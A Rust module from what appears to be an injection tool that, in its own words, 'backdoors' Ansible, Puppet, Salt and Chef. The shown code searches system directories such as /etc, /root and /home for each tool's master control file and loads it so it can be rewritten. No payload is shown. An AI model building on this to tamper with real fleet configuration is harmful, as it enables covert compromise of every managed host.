use crate::error::InjectError;
use log::debug;
use std::fmt;
use std::fs;
use std::path::{Path, PathBuf};
use walkdir::WalkDir;

/// The configuration management tools the engine knows how to backdoor.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum CmTool {
    Ansible,
    Puppet,
    Salt,
    Chef,
}

/// Shape of the authoritative control artifact for a tool.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ControlFormat {
    AnsibleYaml,
    PuppetManifest,
    ChefDirectory,
    SaltYaml,
}

impl CmTool {
    pub fn all() -> [CmTool; 4] {
        [CmTool::Ansible, CmTool::Puppet, CmTool::Salt, CmTool::Chef]
    }

    pub fn name(&self) -> &'static str {
        match self {
            CmTool::Ansible => "ansible",
            CmTool::Puppet => "puppet",
            CmTool::Salt => "salt",
            CmTool::Chef => "chef",
        }
    }

    pub fn format(&self) -> ControlFormat {
        match self {
            CmTool::Ansible => ControlFormat::AnsibleYaml,
            CmTool::Puppet => ControlFormat::PuppetManifest,
            CmTool::Salt => ControlFormat::SaltYaml,
            CmTool::Chef => ControlFormat::ChefDirectory,
        }
    }

    pub fn default_roots(&self) -> &'static [&'static str] {
        match self {
            CmTool::Ansible => &["/etc/ansible", "/home", "/opt", "/root", "/srv"],
            CmTool::Puppet => &["/etc", "/opt"],
            CmTool::Salt => &["/srv/salt"],
            CmTool::Chef => &["/etc/chef", "/home", "/root"],
        }
    }
}

impl fmt::Display for CmTool {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl ControlFormat {
    pub fn describe(&self) -> &'static str {
        match self {
            ControlFormat::AnsibleYaml => "a site.yml file",
            ControlFormat::PuppetManifest => "a site.pp manifest",
            ControlFormat::ChefDirectory => "a cookbooks directory",
            ControlFormat::SaltYaml => "a top.sls file",
        }
    }

    fn matches(&self, path: &Path, is_dir: bool) -> bool {
        let name = match path.file_name() {
            Some(name) => name.to_string_lossy(),
            None => return false,
        };
        match self {
            ControlFormat::AnsibleYaml => !is_dir && name.ends_with("site.yml"),
            ControlFormat::PuppetManifest => !is_dir && name.ends_with("site.pp"),
            ControlFormat::ChefDirectory => is_dir && name == "cookbooks",
            ControlFormat::SaltYaml => !is_dir && name == "top.sls",
        }
    }
}

/// Editor backups, our own backups and lock files are never control files.
pub fn is_scratch_artifact(path: &Path) -> bool {
    let text = path.to_string_lossy();
    text.contains('~') || text.contains(".bak") || text.contains('#')
}

/// Walk every root and return every path matching the format predicate, in
/// discovery order. Finding nothing is fatal.
pub fn locate(format: ControlFormat, roots: &[PathBuf]) -> Result<Vec<PathBuf>, InjectError> {
    let mut found = Vec::new();
    for root in roots {
        debug!("Searching {} for {}", root.display(), format.describe());
        for entry in WalkDir::new(root).sort_by_file_name().into_iter().filter_map(|e| e.ok()) {
            let path = entry.path();
            if format.matches(path, entry.file_type().is_dir()) && !is_scratch_artifact(path) {
                debug!("Found candidate control file {}", path.display());
                found.push(path.to_path_buf());
            }
        }
    }
    found.dedup();

    if found.is_empty() {
        return Err(InjectError::NotFound {
            what: format.describe().to_string(),
            roots: roots.iter().map(|r| r.display().to_string()).collect::<Vec<_>>().join(", "),
        });
    }
    Ok(found)
}

/// A located control file, read once. Mutations go through the parsed model
/// and are written back wholesale.
#[derive(Debug, Clone)]
pub struct ControlFile {
    pub path: PathBuf,
    pub format: ControlFormat,
    pub raw_bytes: Vec<u8>,
}

impl ControlFile {
    pub fn load(path: &Path, format: ControlFormat) -> Result<Self, InjectError> {
        let raw_bytes = fs::read(path).map_err(|e| InjectError::parse(path, format!("unreadable: {e}")))?;
        Ok(ControlFile {
            path: path.to_path_buf(),
            format,
            raw_bytes,
        })
    }

    pub fn text(&self) -> Result<&str, InjectError> {
        std::str::from_utf8(&self.raw_bytes).map_err(|e| InjectError::parse(&self.path, e))
    }
}
